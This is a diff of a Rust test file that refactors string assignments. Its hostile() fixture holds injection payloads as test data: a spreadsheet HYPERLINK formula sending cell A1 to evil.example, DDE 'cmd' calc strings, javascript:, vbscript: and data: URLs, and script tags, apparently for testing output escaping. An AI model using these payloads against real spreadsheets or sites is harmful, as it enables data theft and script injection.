@@ -168,8 +168,8 @@ fn example() -> Audit {
 fn hostile() -> Audit {
     let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
     let mut page = page(66, "evil", title);
-    page.link = "javascript:alert(document.domain)".to_owned();
-    page.edit_link = "data:text/html,<script>alert(1)</script>".to_owned();
+    "javascript:alert(document.domain)".clone_into(&mut page.link);
+    "data:text/html,<script>alert(1)</script>".clone_into(&mut page.edit_link);
     let mut bad = finding(
         "overdue",
         Severity::Error,
@@ -179,7 +179,7 @@ fn hostile() -> Audit {
         "-2+3+cmd|' /C calc'!A0",
     );
     bad.section = vec!["@SUM(1+1)*cmd|' /C calc'!A0".to_owned(), "</td></table><h1>free</h1>".to_owned()];
-    bad.url = "vbscript:msgbox(1)".to_owned();
+    "vbscript:msgbox(1)".clone_into(&mut bad.url);
     bad.evidence
         .insert("other".to_owned(), json!({"title": "<script>alert(2)</script>", "link": "javascript:alert(3)"}));
     bad.evidence.insert("said".to_owned(), json!(["https://x.example/\"><script>alert(4)</script>", "=1+1"]));
@@ -426,7 +426,7 @@ fn two_registers_say_what_was_reviewed_between_them() {
     let mut now = example();
     now.as_of = date(2027, 2, 1);
     now.standings[1].reviewed = "2027-01".parse().ok();
-    now.standings[2].text_hash = "changed".to_owned();
+    "changed".clone_into(&mut now.standings[2].text_hash);
     now.standings.remove(0);
     now.standings.push(standing(&page(10, "new", "A new page"), &[], "", Freshness::Unverified));
     let changes = earlier.until(&now.standings);
